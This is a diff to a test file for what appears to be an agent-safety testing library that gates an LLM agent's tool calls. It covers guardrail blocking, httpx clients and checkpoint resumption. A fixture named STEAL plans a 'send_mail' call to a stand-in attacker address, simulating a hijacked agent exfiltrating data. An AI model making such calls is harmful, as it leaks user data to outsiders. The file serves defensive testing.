@@ -6,11 +6,14 @@ from dataclasses import replace
 
 import pytest
 
+from pytest_agentsafety import Gate
 from pytest_agentsafety.llm import HijackedModel
 from pytest_agentsafety.model.errors import BudgetExceededError, CassetteMiss
 from pytest_agentsafety.model.messages import PlannedCall, PlannedTurn
 
-from .conftest import LIST, MAIL, MODEL, PROMPT, READ, TURNS, UNGUARDED
+from .conftest import LIST, MAIL, MODEL, OWN_TOOLS, PROMPT, READ, TURNS, UNGUARDED, Talk, open_doors, run_agent
+
+openai = pytest.importorskip("openai")
 
 EVERY_CALL = [READ, LIST, MAIL]
 STEAL = PlannedCall(name="send_mail", arguments={"to": "eve@evil.test", "copies": 1, "when": {"day": 9}})
@@ -114,3 +117,36 @@ def test_the_user_is_guarded_as_ever(talk, server, play):
     error, _ = play(talk, f"{server.url}/v1", policy=policy, prompt=prompt)
     assert isinstance(error, GuardrailBlocked)
     assert server.log == []
+
+
+def test_clients_on_httpx_pass_too(format_, server, log):
+    httpx = pytest.importorskip("httpx")
+    talk = Talk(format_, streaming=True)
+    gate = Gate(UNGUARDED, sink=log)
+    tools = {tool.__name__: tool for tool in gate.wrap(OWN_TOOLS)}
+    task = gate.open(PROMPT)
+    with open_doors(task), httpx.Client(trust_env=False, verify=False) as http:
+        client = openai.OpenAI(base_url=f"{server.url}/v1", api_key="key", http_client=http)
+        assert run_agent(talk, client, tools, PROMPT) == "It is done."
+    assert task.tally.executed == EVERY_CALL
+    assert task.tally.model_calls == 3
+
+
+class PowerCut(BaseException):
+    """The process ends here."""
+
+
+@pytest.mark.parametrize("asynchronous", [False, True], ids=["sync", "async"])
+def test_a_task_goes_on_where_it_was_cut_off(talk, server, play, tmp_path, asynchronous):
+    def cut(**_):
+        raise PowerCut
+
+    journal = tmp_path / "journal"
+    with pytest.raises(PowerCut):
+        play(talk, f"{server.url}/v1", asynchronous=asynchronous, checkpoint=journal, tools={"send_mail": cut})
+    assert server.calls == 2
+    again = Talk(talk.format, talk.streaming)
+    answer, task = play(again, f"{server.url}/v1", asynchronous=asynchronous, checkpoint=journal)
+    assert answer == "It is done."
+    assert server.calls == 3, "what was answered before is not asked again"
+    assert task.tally.ungated == []
